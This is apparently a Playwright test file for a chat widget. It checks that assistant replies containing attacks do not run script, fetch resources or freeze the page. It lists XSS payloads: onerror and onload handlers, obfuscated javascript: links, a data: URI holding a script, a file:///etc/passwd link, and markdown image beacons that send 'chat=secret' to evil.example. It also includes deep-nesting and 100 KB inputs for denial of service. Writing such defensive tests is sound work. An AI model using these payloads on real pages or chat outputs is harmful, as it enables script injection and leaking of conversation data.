import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { reply, stageScene } from './scene.ts';
import { hasBrowser } from './widget-page.ts';

/* Whatever a model was made to say: no script runs, nothing is fetched, and the page stays alive. */

const EVIL = [
  '<img src=x onerror="window.hacked=1">',
  '<svg onload="window.hacked=1">',
  '<iframe src="javascript:window.hacked=1"></iframe>',
  '<a href="javascript:window.hacked=1">x</a>',
  '![beacon](https://evil.example/?chat=secret)',
  '![beacon](//evil.example/a.png)',
  '[click](javascript:window.hacked=1)',
  '[tab](java\tscript:window.hacked=1)',
  '[line](java\nscript:window.hacked=1)',
  '[case](JaVaScRiPt:window.hacked=1)',
  '[blank]( javascript:window.hacked=1)',
  '[entity](&#106;avascript:window.hacked=1)',
  '[data](data:text/html,<script>window.hacked=1</script>)',
  '[vb](vbscript:x)',
  '[file](file:///etc/passwd)',
  '<javascript:window.hacked=1>',
  Array.from({ length: 1000 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n'),
];
const OPENERS = ['*', '`', '[', '[a](', '_a'];
const OPENER_BYTES = 100_000;
/** A page that does not answer for so long is frozen, on any machine. */
const FROZEN_MS = 1000;

describe.skipIf(!hasBrowser)('a reply that attacks', () => {
  const scene = stageScene();

  const watch = async () => {
    const visit = await scene.begin();
    const requests: string[] = [];
    visit.page.on('request', (request) => requests.push(request.url()));
    return { ...visit, requests };
  };
  const expectCalm = async (page: Page, requests: string[], problems: string[]) => {
    const host = page.locator('dragoman-chat');
    const made = 'article :is(img, iframe, script, object, embed, svg:not(.icon), a)';
    expect(await host.locator(made).count()).toBe(0);
    expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBe(undefined);
    expect(requests).toEqual([]);
    expect(problems).toEqual([]);
  };

  test('runs no script and asks for nothing, said at once', async () => {
    const { page, widget, id, requests, problems } = await watch();
    for (const [index, text] of EVIL.entries()) await reply(scene, id, `msg_${index}`, text);
    await reply(scene, id, 'msg_end', 'the end');
    await widget.host.getByText('the end').first().waitFor();
    await expectCalm(page, requests, problems);
  });

  test('runs no script and asks for nothing, letter by letter', async () => {
    const { page, widget, id, requests, problems } = await watch();
    const { log } = scene.shop.services;
    const text = EVIL.slice(0, -1).join('\n\n');
    const message = { messageId: 'msg_stream', author: 'assistant' as const };
    await log.append(id, [{ type: 'message-start', ...message }]);
    for (const letter of text) {
      log.publishDelta(id, message.messageId, letter);
      if (letter === ')' || letter === '>') await page.evaluate(() => 0);
    }
    await expect.poll(() => widget.log.textContent()).toContain('etc/passwd');
    await expectCalm(page, requests, problems);
    await log.append(id, [{ type: 'message-end', ...message, text }]);
    await widget.host.locator('article.assistant .feedback').nth(1).waitFor();
    await expectCalm(page, requests, problems);
  });

  test.each(OPENERS)(
    'of 100 KB of %j does not freeze the page, as a stream or whole',
    async (opener) => {
      const { page, widget, id, requests, problems } = await watch();
      const { log } = scene.shop.services;
      const text = opener.repeat(OPENER_BYTES / opener.length);
      await page.evaluate(() => {
        let last = performance.now();
        Object.assign(window, { longest: 0 });
        const look = () => {
          const now = performance.now();
          Reflect.set(window, 'longest', Math.max(Reflect.get(window, 'longest'), now - last));
          last = now;
          requestAnimationFrame(look);
        };
        requestAnimationFrame(look);
      });
      const message = { messageId: 'msg_long', author: 'assistant' as const };
      await log.append(id, [{ type: 'message-start', ...message }]);
      for (let end = 0; end < text.length; end += 10_000) {
        log.publishDelta(id, message.messageId, text.slice(end, end + 10_000));
        await page.evaluate(() => new Promise((done) => requestAnimationFrame(done)));
      }
      await log.append(id, [{ type: 'message-end', ...message, text }]);
      await widget.host.locator('article.assistant .feedback').nth(1).waitFor();
      expect(await page.evaluate(() => Reflect.get(window, 'longest'))).toBeLessThan(FROZEN_MS);
      await expectCalm(page, requests, problems);
    },
  );
});
